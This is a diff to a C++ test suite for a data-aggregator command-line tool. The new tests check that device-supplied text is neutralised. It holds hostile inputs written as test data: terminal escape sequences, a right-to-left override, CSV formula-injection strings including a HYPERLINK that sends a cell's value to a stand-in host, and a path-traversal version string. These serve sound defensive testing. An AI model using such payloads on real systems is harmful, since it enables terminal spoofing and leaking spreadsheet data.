@@ -21,6 +21,8 @@
 #include "sync/aggregator/project_keys.h"
 #include "sync/protocol/messages.h"
 #include "tests/support/command_run.h"
+#include "tests/support/spreadsheet_check.h"
+#include "tools/terminal/terminal_text.h"
 
 using namespace ck;
 using ck::test::runCommand;
@@ -326,4 +328,141 @@ TEST_CASE("ck-aggregator: help, usage errors and a missing data folder", "[sync]
                            shellQuote((root / "w").string()));
     CHECK(weak.status == 1);
     CHECK_FALSE(fs::exists(root / "w" / "keys.ck"));
+}
+
+// A device (or whoever made the stick) chooses its label, the bundle's createdBy, record ids
+// and the answers' text. None of it may drive the operator's terminal or run as a formula in
+// the export; a version string cannot name a path; a bundle file is read bounded.
+TEST_CASE("ck-aggregator: device-chosen text never drives the terminal or a spreadsheet", "[sync][agg][cli]") {
+    fs::path root = scratch("hostile");
+    Cli cli{root / "data"};
+    auto init = cli.run("init --test-kdf");
+    INFO(init.all());
+    REQUIRE(init.status == 0);
+    std::string ingestHex = match(init.out, "ingest key \\(hex\\): +([0-9a-f]{64})");
+    REQUIRE(ingestHex.size() == 64);
+    std::string flagshipPath = std::string(CK_SOURCE_DIR) + "/survey-templates/cluster-diagnostic.json";
+    REQUIRE(cli.run("templates publish " + shellQuote(flagshipPath)).status == 0);
+    std::string code = match(cli.run("enrol --officer 'Priya S' --cluster tiruppur_knitwear").out,
+                             "code: +([2-9A-HJKMNP-Z]{4}-[2-9A-HJKMNP-Z]{4}-[2-9A-HJKMNP-Z]{4})");
+    REQUIRE_FALSE(code.empty());
+
+    // Clear the screen, retitle the window, colour the rest red, hide text right to left.
+    const std::string evilLabel = "Tab\x1b[2J\x1b]0;owned\x07\x1b[31m\xe2\x80\xae" "evil";
+    std::vector<uint8_t> devicePublic(crypto_sign_PUBLICKEYBYTES);
+    SecretBytes deviceSecret(crypto_sign_SECRETKEYBYTES);
+    crypto_sign_keypair(devicePublic.data(), deviceSecret.data());
+    {
+        auto keys = agg::unlockProjectKeys(cli.data, kPassphrase);
+        REQUIRE(std::holds_alternative<agg::ProjectKeys>(keys));
+        auto storage = agg::openStorage(cli.data.string());
+        agg::IngestService ingest(*storage, std::get<agg::ProjectKeys>(keys));
+        proto::EnrolRequest req{code, devicePublic, evilLabel, agg::systemClock(), {}};
+        req.signature = sign(proto::signingBytes(req), deviceSecret);
+        REQUIRE(std::holds_alternative<proto::EnrolReply>(ingest.enrol(req)));
+    }
+    auto devices = cli.run("devices list");
+    INFO(devices.all());
+    REQUIRE(devices.status == 0);
+    CHECK(devices.out.find('\x1b') == std::string::npos);
+    CHECK(devices.out.find('\x07') == std::string::npos);
+    CHECK(devices.out.find("\xe2\x80\xae") == std::string::npos);
+    CHECK_THAT(devices.out, Catch::Contains("Tab\\x1b[2J\\x1b]0;owned\\x07\\x1b[31m\\u{202e}evil"));
+
+    // Visits whose free-text answer is a formula, on a stick whose createdBy is hostile too.
+    auto survey = loadTemplateJson(readText(flagshipPath), "cluster-diagnostic.json").survey;
+    REQUIRE(survey);
+    auto answers = nlohmann::json::parse(readText(std::string(CK_TEST_DATA_DIR) + "/answers/knitwear-complete.json"));
+    std::vector<uint8_t> ingestKey(32);
+    REQUIRE(sodium_hex2bin(ingestKey.data(), 32, ingestHex.data(), 64, nullptr, nullptr, nullptr) == 0);
+    std::vector<std::string> personal;
+    for (const auto& q : survey->questions)
+        if (q.pii) personal.push_back(q.id);
+    const std::vector<std::string> formulas = {"=HYPERLINK(\"http://example.invalid/?\"&A2,\"Details\")", "=1+1",
+                                               "+1+1", "-1+1", "@SUM(1;2)", "\t=1+1"};
+    proto::Bundle bundle;
+    bundle.createdBy = "Operator\x1b[2K\rImported 0 records";  // would overwrite the line it is on
+    bundle.createdAt = agg::systemClock();
+    proto::UploadBatch batch;
+    batch.devicePublicKey = devicePublic;
+    batch.sentAt = bundle.createdAt;
+    for (const std::string& f : formulas) {
+        nlohmann::json a = answers;
+        a["officer_id"] = f;
+        FormSession session(survey, newRecordId(), bundle.createdAt - 3600);
+        (void)applyAnswersJson(session, a);
+        Record r = session.toRecord();
+        REQUIRE(r.find("officer_id"));
+        SealInput in;
+        in.record = &r;
+        in.personalFields = personal;
+        in.aggregatorPublicKey = ingestKey;
+        in.signingSecretKey = &deviceSecret;
+        in.signingPublicKey = devicePublic;
+        in.dictionary = recordDictionary(*survey);
+        batch.envelopes.push_back(proto::toWire(sealEnvelope(in)));
+    }
+    batch.signature = sign(proto::signingBytes(batch), deviceSecret);
+    bundle.batches.push_back(batch);
+    auto frame = proto::encodeFrame(bundle);
+    writeText(root / "stick.ckbundle", std::string(frame.begin(), frame.end()));
+    auto imported = cli.run("import " + shellQuote((root / "stick.ckbundle").string()));
+    INFO(imported.all());
+    REQUIRE(imported.status == 0);
+    CHECK(imported.all().find('\x1b') == std::string::npos);
+    CHECK(imported.out.find('\r') == std::string::npos);
+    // Not signed, so not stated as fact: shown as what the bundle claims.
+    CHECK_THAT(imported.out, Catch::Contains("claims to be from \"Operator\\x1b[2K\\x0dImported 0 records\""));
+    CHECK_THAT(imported.out, Catch::Contains(std::to_string(formulas.size()) + " stored"));
+
+    // The export opened in LibreOffice, formulas evaluated: no cell is a formula, the
+    // formula-looking answers are there as text, and numbers are still numbers.
+    auto exported = cli.run("export --format csv --out " + shellQuote((root / "out").string()));
+    INFO(exported.all());
+    REQUIRE(exported.status == 0);
+    fs::path csv = root / "out" / "cluster-diagnostic-2026.1.csv";
+    std::string text = readText(csv);
+    for (const std::string& f : formulas)
+        if (f.find('"') == std::string::npos) CHECK_THAT(text, Catch::Contains("'" + f));
+    const std::string fods = test::csvAsFlatOds(csv, root / "lo");
+    const auto found = test::formulaCells(fods);
+    for (const auto& f : found) UNSCOPED_INFO("formula cell: " << f);
+    CHECK(found.empty());
+    const std::string turnover = answers.at("turnover").dump();
+    CHECK(test::numberCells(fods, turnover) == formulas.size());
+
+    // A version that names a path is refused at publish, before anything is stored.
+    std::string evilTemplate = readText(flagshipPath);
+    evilTemplate.replace(evilTemplate.find("\"2026.1\""), 8, "\"../../../tmp/x\"");
+    writeText(root / "evil-version.json", evilTemplate);
+    auto evil = cli.run("templates publish " + shellQuote((root / "evil-version.json").string()));
+    CHECK(evil.status == 1);
+    CHECK_THAT(evil.err, Catch::Contains("not a valid version"));
+    CHECK_THAT(cli.run("templates list").out, Catch::Contains("1 template version"));
+
+    // A bundle file larger than any frame is refused from its size, unread; a device file too.
+    {
+        std::ofstream big(root / "huge.ckbundle", std::ios::binary);
+        big.seekp(std::streamoff(proto::kMaxFrameBytes) + 1);
+        big.put('\0');
+    }
+    auto huge = cli.run("import " + shellQuote((root / "huge.ckbundle").string()));
+    CHECK(huge.status == 1);
+    CHECK_THAT(huge.err, Catch::Contains("holds at most"));
+    auto device = cli.run("import /dev/zero");
+    CHECK(device.status == 1);
+    CHECK_THAT(device.err, Catch::Contains("not a regular file"));
+}
+
+TEST_CASE("terminalSafe: controls, broken UTF-8 and direction overrides are shown, not obeyed", "[sync][agg][cli]") {
+    CHECK(terminalSafe("Tab 7") == "Tab 7");
+    CHECK(terminalSafe("सूक्ष्म Tiruppur") == "सूक्ष्म Tiruppur");  // real text stays as it is
+    CHECK(terminalSafe("a\x1b[2Jb") == "a\\x1b[2Jb");
+    CHECK(terminalSafe("\r\n\t\x7f") == "\\x0d\\x0a\\x09\\x7f");
+    CHECK(terminalSafe("\xc2\x9b" "31m") == "\\u{9b}31m");        // the one-byte CSI of C1
+    CHECK(terminalSafe("\xe2\x80\xae" "txt.exe") == "\\u{202e}txt.exe");
+    CHECK(terminalSafe("\xc0\xaf") == "\\xc0\\xaf");              // overlong '/': not UTF-8
+    CHECK(terminalSafe("\xed\xa0\x80") == "\\xed\\xa0\\x80");     // a surrogate
+    CHECK(terminalSafe("\xe2\x82") == "\\xe2\\x82");              // cut short
+    CHECK(terminalSafe("C:\\x1b") == "C:\\\\x1b");                // a shown escape is never a sent one
 }
